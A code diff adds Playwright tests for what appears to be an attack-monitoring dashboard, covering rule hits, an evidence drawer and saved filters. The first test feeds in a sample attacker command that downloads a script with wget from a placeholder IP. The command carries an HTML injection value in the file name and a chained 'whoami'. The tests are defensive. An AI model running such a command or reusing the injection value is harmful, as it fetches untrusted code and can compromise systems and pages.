@@ -103,3 +103,55 @@ test('a viewer sees no control of a rule, and the server refuses anyway', async 
   });
   expect(refused.status()).toBe(403);
 });
+
+test('what a rule found lies on its page, and a row opens the evidence', async ({ page, request }) => {
+  const seen = watch(page);
+  const token = await logIn(page);
+  const key = await pushKey(request, token);
+  const session = `found${Date.now().toString(16)}`;
+  const line = 'wget http://203.0.113.5/x.sh -O /tmp/"<img src=x>"; whoami';
+  await push(request, key, { session, address: '198.51.100.34', commands: [line] });
+  expect(await rulesOf(request, token, session)).toContain(RULE);
+
+  await page.goto(`/rules/${RULE}`);
+  const row = page.getByRole('region', { name: 'Table of tags' }).getByRole('row').filter({ hasText: session });
+  await expect(row).toContainText('T1105');
+  await expect(row).toContainText('<img src=x>');
+  await row.getByRole('link').first().click();
+  await expect(page).toHaveURL(/inspect=T1105/);
+  const drawer = page.getByRole('dialog');
+  await expect(drawer.getByRole('article').first()).toContainText(RULE);
+  await expect(drawer.getByRole('article').first()).toContainText(session);
+  await expectAccessible(page);
+  await page.reload();
+  await expect(drawer.getByRole('article').first()).toContainText(session);
+  await page.keyboard.press('Escape');
+  await expect(drawer).toHaveCount(0);
+  expect(seen).toEqual([]);
+});
+
+test('filters are saved under a name, for this user in this browser', async ({ page }) => {
+  const seen = watch(page);
+  await logIn(page);
+  await page.goto('/rules?q=T1105&state=enabled');
+  await page.getByRole('button', { name: 'Saved filters of rules' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Saved filters of rules' });
+  await dialog.getByLabel('Name for the filters that are set').fill('Fetchers');
+  await dialog.getByRole('button', { name: 'Save' }).click();
+  await expect(dialog.getByRole('link', { name: 'Fetchers' })).toBeVisible();
+  await expectAccessible(page);
+
+  await page.goto('/rules');
+  await page.getByRole('button', { name: 'Saved filters of rules' }).click();
+  await expect(dialog.getByText('Set a filter to save it.')).toBeVisible();
+  await dialog.getByRole('link', { name: 'Fetchers' }).click();
+  await expect(page).toHaveURL(/q=T1105&state=enabled/);
+  await expect(dialog).toHaveCount(0);
+  await page.getByRole('button', { name: 'Fetchers filters of rules' }).click();
+  await dialog.getByRole('button', { name: 'Delete Fetchers' }).click();
+  await expect(dialog.getByText('None is saved yet.')).toBeVisible();
+  await page.goto('/attackers?service=ssh');
+  await page.getByRole('button', { name: 'Saved filters of attackers' }).click();
+  await expect(page.getByRole('dialog').getByText('None is saved yet.')).toBeVisible();
+  expect(seen).toEqual([]);
+});
